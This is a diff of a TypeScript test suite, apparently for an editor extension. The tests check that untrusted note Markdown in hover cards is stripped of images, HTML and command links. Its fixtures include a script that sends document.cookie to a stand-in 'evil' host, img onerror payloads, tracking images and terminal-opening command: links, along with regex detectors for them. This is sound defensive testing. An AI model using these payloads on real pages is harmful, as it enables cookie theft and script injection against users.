@@ -8,7 +8,8 @@ import type { Entity } from '../../src/core/model';
 function dangers(md: string): string[] {
   const found: string[] = [];
   if (/(?<!\\)!\[[^\]]*\]\s*[([]/.test(md)) found.push('image');
-  if (/\]\(\s*<?(?:command|file|vscode):/i.test(md) || /^\s{0,3}\[[^\]]+\]:\s*<?(?:command|file|vscode):/im.test(md)) found.push('unsafe link');
+  if (/\]\(\s*<?(?:command|file|vscode):/i.test(md) || /^\s{0,3}\[[^\]]+\]:\s*<?(?:command|file|vscode):/im.test(md))
+    found.push('unsafe link');
   if (/(?<!\\)<[a-z!/?]/i.test(md)) found.push('html');
   return found;
 }
@@ -16,7 +17,10 @@ function dangers(md: string): string[] {
 const HOSTILE: { note: string; keeps: string }[] = [
   { note: 'Vyshinsky asked [open a terminal](command:workbench.action.terminal.new) again.', keeps: 'open a terminal' },
   { note: 'Seen at the Bristol <img src=http://evil/x.png onerror=alert(1)> in 1932.', keeps: 'Bristol' },
-  { note: 'Radek wrote <script>fetch("http://evil/?"+document.cookie)</script> nothing of the kind.', keeps: 'nothing of the kind' },
+  {
+    note: 'Radek wrote <script>fetch("http://evil/?"+document.cookie)</script> nothing of the kind.',
+    keeps: 'nothing of the kind',
+  },
   { note: 'Photograph of the hotel: ![](https://evil/track.png)', keeps: 'Photograph of the hotel' },
   { note: 'Reference image ![Hotel Bristol][pic]\n\n[pic]: https://evil/track.png', keeps: 'Hotel Bristol' },
   { note: 'A [settings link][s].\n\n[s]: command:workbench.action.openSettings', keeps: 'settings link' },
@@ -46,14 +50,25 @@ describe('reliability: untrusted note Markdown', () => {
   }
 
   it('hover cards pass entity notes and annotation notes through it', () => {
-    const entity: Entity = { id: 'goltzman', type: 'person', name: 'E. S. Goltzman', aliases: [],
-      note: 'Met Sedov at the Bristol ![](https://evil/track.png) <img src=http://evil/x.png> [x](command:workbench.action.terminal.new)' };
-    const card = entityParts(entity).map((p) => p.markdown).join('\n\n');
+    const entity: Entity = {
+      id: 'goltzman',
+      type: 'person',
+      name: 'E. S. Goltzman',
+      aliases: [],
+      note: 'Met Sedov at the Bristol ![](https://evil/track.png) <img src=http://evil/x.png> [x](command:workbench.action.terminal.new)',
+    };
+    const card = entityParts(entity)
+      .map((p) => p.markdown)
+      .join('\n\n');
     assert.ok(card.includes('Met Sedov at the Bristol'));
     assert.deepStrictEqual(dangers(card), []);
-    const quote = describeMention({ kind: 'quote', start: 0, end: 5, text: '“yes”', quote: 'confession' }, {
-      julianBefore: '1918-02-14', annotations: [{ kind: 'confession', note: '<script>alert(1)</script> ![](https://evil/t.png)' }],
-    });
+    const quote = describeMention(
+      { kind: 'quote', start: 0, end: 5, text: '“yes”', quote: 'confession' },
+      {
+        julianBefore: '1918-02-14',
+        annotations: [{ kind: 'confession', note: '<script>alert(1)</script> ![](https://evil/t.png)' }],
+      },
+    );
     assert.ok(quote.every((p) => p.trust === 'untrusted'));
     assert.deepStrictEqual(dangers(quote.map((p) => p.markdown).join('\n')), []);
   });
